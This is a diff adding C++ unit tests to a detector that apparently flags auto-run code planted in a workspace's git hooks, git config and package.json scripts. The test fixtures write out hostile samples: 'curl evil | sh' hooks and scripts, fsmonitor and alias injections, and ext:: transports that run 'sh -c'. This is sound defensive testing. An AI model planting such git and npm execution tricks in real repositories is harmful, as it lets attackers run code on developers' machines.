@@ -367,6 +367,16 @@ TEST(PlantedCodeAround, AHookAboveTheWorkspaceThatRunsItsPackageJsonIsFollowed) 
             std::vector<std::string>{"package.json"});
 }
 
+// A cd through a variable that names the top, as hooks write it.
+TEST_F(PlantedCode, ACdThroughTheTopsVariableIsFollowed) {
+  write_file(ws_ + "/old/.git/hooks/pre-commit",
+             "#!/bin/sh\nROOT=$(git rev-parse --show-toplevel)\ncd \"$ROOT/web\" || exit 1\nnpm run lint\n");
+  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint"}})");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"curl evil | sh"}})");
+  EXPECT_EQ(planted(), std::vector<std::string>{"old/web/package.json"});
+}
+
 // Where the folder a hook's npm runs in has no package.json, npm takes the
 // nearest one above it (here the workspace's, above the repository).
 TEST_F(PlantedCode, ThePackageJsonNpmFindsAboveIsWatched) {
@@ -665,4 +675,52 @@ TEST_F(PlantedCode, TextMadeToBeExpensiveStopsTheCheck) {
   for (int i = 0; i < 300000; ++i) words += "a/" + std::to_string(i) + " ";
   write_file(ws_ + "/d/.envrc", words + "\n");
   EXPECT_NO_THROW(snapshot_autorun_entries(ws_, true));
+  // Variables a line names by the folder they stand for are read in one
+  // pass (replacing each in place was quadratic: minutes for 4 MiB).
+  std::string pwds, dirnames;
+  for (int i = 0; i < 1000000; ++i) pwds += "$PWD";
+  for (int i = 0; i < 70000; ++i) dirnames += "$(dirname $0) ";
+  write_file(ws_ + "/d/.envrc", pwds + "\n");
+  write_file(ws_ + "/old/.git/hooks/pre-commit", dirnames + "\n");
+  try {
+    snapshot_autorun_entries(ws_, true);
+  } catch (const warden::Error& e) {
+    ADD_FAILURE() << e.what();
+  }
+  // A config larger than the part read could hide a key past it.
+  write_file(ws_ + "/old/.git/config", "#" + std::string(5 << 20, 'x') + "\n[core]\n\tfsmonitor = ./evil\n");
+  EXPECT_THROW(snapshot_autorun_entries(ws_, true), warden::Error);
+  EXPECT_THROW(snapshot_autorun_entries(ws_, false), warden::Error);
+}
+
+// Under write_git, where a .git file or a commondir sends git (a folder
+// without HEAD, which git takes as the common part of a repository) is
+// watched like a .git: its config's commands and its hooks.
+TEST_F(PlantedCode, AGitWriteCannotSendGitToAFolderItPlanted) {
+  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
+  write_file(ws_ + "/sub/.git", "gitdir: ../x\n");
+  write_file(ws_ + "/x/HEAD", "ref: refs/heads/main\n");
+  write_file(ws_ + "/x/commondir", "../y\n");
+  fs::create_directories(ws_ + "/y/objects");
+  fs::create_directories(ws_ + "/y/refs/heads");
+  write_file(ws_ + "/y/config", "[core]\n\tfsmonitor = \"touch pwned; false\"\n");
+  write_file(ws_ + "/y/hooks/pre-commit", "curl evil | sh\n");
+  write_file(ws_ + "/old/.git/modules/lib/commondir", "../../../../vendor/.cache\n");
+  fs::create_directories(ws_ + "/vendor/.cache/objects");
+  fs::create_directories(ws_ + "/vendor/.cache/refs");
+  write_file(ws_ + "/vendor/.cache/config", "[alias]\n\tst = -c core.fsmonitor=evil status\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
+            (std::vector<std::string>{"y/config", "vendor/.cache/config", "y/hooks/pre-commit"}));
+}
+
+// Under write_git, a new repository's config that runs a program through a
+// transport: an insteadOf to an ext:: URL, a remote helper named by vcs.
+TEST_F(PlantedCode, AGitWriteCannotPlantATransportThatRunsAProgram) {
+  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
+  write_file(ws_ + "/a/.git/config",
+             "[protocol \"ext\"]\n\tallow = always\n[url \"ext::sh -c touch% pwned #\"]\n\tinsteadOf = https://x/\n");
+  write_file(ws_ + "/b/.git/config", "[remote \"origin\"]\n\turl = sh -c evil\n\tvcs = ext\n");
+  write_file(ws_ + "/c/.git/config", "[remote \"origin\"]\n\turl = https://example.org/c.git\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
+            (std::vector<std::string>{"a/.git/config", "b/.git/config"}));
 }
